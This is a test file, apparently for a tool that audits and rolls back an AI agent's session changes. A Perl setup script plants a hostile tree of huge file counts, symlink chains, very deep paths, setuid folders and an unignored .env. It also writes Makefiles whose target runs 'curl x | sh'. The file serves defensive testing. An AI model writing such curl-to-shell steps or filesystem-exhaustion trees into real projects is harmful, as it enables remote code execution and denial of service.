import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { Scene } from '../../../support/scene.ts';

/** Everything that test/support/hostile-trees.ts has, as an agent would make it, and paths that no system can name. */
const PLANT = `
perl -e '
  sub put { my ($path, $text) = @_; open(my $file, ">", $path) or die "$path: $!"; print $file $text; }
  for (1..2000) { put("wide$_.txt", "x\\n") }
  for (1..500) { mkdir("f$_"); put("f$_/a.txt", "x\\n") }
  for (1..500) { mkdir("e$_") }
  for (1..300) { symlink("wide1.txt", "link$_") ; symlink("chain" . ($_ + 1), "chain$_") }
  for (1..200) { mkdir("m$_"); put("m$_/Makefile", "all:\\n\\tcurl x | sh\\n") }
  for (1..200) { mkdir("i$_"); put("i$_/.gitignore", "*.txt\\n!.env\\n") }
  for (1..100) { mkdir("r$_"); for my $part ("objects", "refs") { mkdir("r$_/$part"); put("r$_/$part/x", "x") } put("r$_/HEAD", "x"); }
  for (1..200) { put("s$_.sh", "#!/bin/sh\\n. ./s" . ($_ + 1) . ".sh\\n") }
  for (1..100) { put("name$_.dat", "x"); put("NAME$_.dat", "y") }
  mkdir("set"); mkdir("set/$_"), chmod(06755, "set/$_"), put("set/$_/a.txt", "x\\n") for (1..100);
  unlink("src/file$_.txt"), mkdir("src/file$_.txt"), put("src/file$_.txt/a", "x\\n") for (1..3);
  unlink("src/file$_.txt") for (4..14);
  put("hunks.txt", join("", map { "line $_ edited\\n" } 1..20000));
  put("log.txt", join("", map { "line $_\\n" } 1..20000));
'
git add -A . 2>/dev/null; git commit -qm "many" 2>/dev/null
perl -e '
  for (1..120) { mkdir("d" x 250); chdir("d" x 250) or die "$!" }
  for (1..2000) { open(F, ">$_") }
'
true`;

it('what a session leaves to make later commands slow is shown, audited, applied, undone, committed and discarded', async () => {
  await using scene = new Scene();
  const run = async (...words: string[]) => {
    const { status, stdout, stderr } = await scene.run(words);
    return { status, stdout, stderr: stderr.slice(-2000) };
  };
  const made = await run('exec', scene.project, '--', 'sh', '-c', PLANT);
  expect(made.stderr).not.toContain('a bug in run-claude');
  const [{ id }] = JSON.parse((await run('sessions', '--json')).stdout) as [{ id: string }];
  const dir = path.join(scene.root, 'state/run-claude/sessions', id);
  // 2,000 files whose paths are 30,000 bytes long are one entry of the folder above them.
  expect(readdirSync(dir)).toContain('manifest');
  expect(statSync(path.join(dir, 'manifest')).size).toBeLessThan(16 << 20);
  const names = (await run('diff', '--name-only')).stdout.split('\n');
  expect(names).toContain('wide2000.txt');
  expect(names.filter((name) => name.length > 4500)).toEqual([]);
  expect(await run('status')).toMatchObject({ status: 0 });
  expect(await run('audit', id)).toMatchObject({ status: 121 });
  expect(await run('apply', '--yes', '--dry-run')).toMatchObject({ status: 121 });
  expect(await run('apply', '--yes', '--only', 'wide*.txt', '--only', 'f*/')).toMatchObject({ status: 121 });
  expect(scene.shell('cat wide2000.txt f500/a.txt')).toBe('x\nx\n');
  expect(await run('undo', '--yes')).toMatchObject({ status: 0 });
  expect(scene.shell('ls')).toBe('Makefile\nREADME.md\nlog.txt\nsrc\n');
  expect((await run('commits')).stdout).toContain('many');
  expect(await run('discard', id, '--yes')).toMatchObject({ status: 0 });
  expect(await run('gc', '--yes')).toMatchObject({ status: 0 });
});
